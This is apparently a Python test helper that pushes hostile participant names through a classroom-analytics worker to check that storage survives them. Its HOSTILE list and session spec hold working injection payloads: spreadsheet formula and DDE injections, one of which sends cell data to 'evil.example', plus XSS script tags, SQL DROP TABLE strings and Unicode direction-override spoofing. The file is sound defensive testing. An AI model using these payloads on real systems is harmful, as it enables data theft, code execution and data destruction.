"""Hostile participant names, pushed through the real worker (real name normalisation, real
participant keys, real Writer) as if OCR had read them off the screen."""

from __future__ import annotations

import dataclasses
from datetime import UTC, datetime

from capture.types import GridResult
from classpulse import adapters
from classpulse.config import load_config, overrides
from classpulse.worker import Worker, media_clock
from storage.records import SessionSpec
from tests.classpulse import fakes

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "<script>window.__pwned=1;alert(1)</script>",
    '<img src=x onerror="window.__pwned=2">',
    "Robert'); DROP TABLE participant;--",
    "'; DROP TABLE observation; --",
    "\u202eexe.elif\u202c Mallory \u2067RTL\u2069",
    "B" * 10_000,
    "",
    "Zoë 🎓🙂👩🏽‍🏫",
]
T0 = datetime(2026, 11, 20, 9, 0, tzinfo=UTC)


class HostileNames:
    """A name reader that 'reads' the hostile names, one per tile."""

    def __init__(self, *_: object) -> None:  # make_name_reader(lang)
        pass

    def read(self, grid: GridResult) -> GridResult:
        tiles = tuple(dataclasses.replace(t, name=HOSTILE[t.order % len(HOSTILE)])
                      for t in grid.tiles)
        return dataclasses.replace(grid, tiles=tiles)


def expected_display(name: str, order: int) -> str:
    """What the pipeline stores as the display name (the processor's rule)."""
    from capture.name_text import normalize_name

    return normalize_name(name) or f"Participant {order + 1}"


def record_hostile_session(monkeypatch, db_url: str, frames: int = 4) -> int:  # noqa: ANN001
    """Run the worker over ``frames`` frames of a gallery of hostile names; returns the session."""
    monkeypatch.setattr(adapters, "make_grid_detector", lambda: fakes.FakeGrid(len(HOSTILE)))
    monkeypatch.setattr(adapters, "make_name_reader", HostileNames)
    monkeypatch.setattr(adapters, "make_face_detector", lambda: fakes.FakeFaces())
    monkeypatch.setattr(adapters, "make_classifier", lambda path: fakes.FakeClassifier())
    monkeypatch.setattr(adapters, "crop_for_fer", fakes.fake_crop)
    cfg = load_config(None, overrides(pipeline__every_s=0.0))
    w = Worker(cfg, db_url, fakes.FakeSource(frames), SessionSpec("=cmd|' /C calc'!A0",
               "<script>alert(1)</script>", instructor="'; DROP TABLE class_session; --",
               started_at=T0), clock=media_clock(T0, 1.0), live=False)
    w.start()
    w.wait(60)
    summary = w.shutdown()
    assert w.writer.dropped == 0, f"writer dropped {w.writer.dropped} rows: {w.writer.last_error}"
    assert summary.observations == frames * len(HOSTILE), summary
    w.engine.dispose()
    return summary.session_id
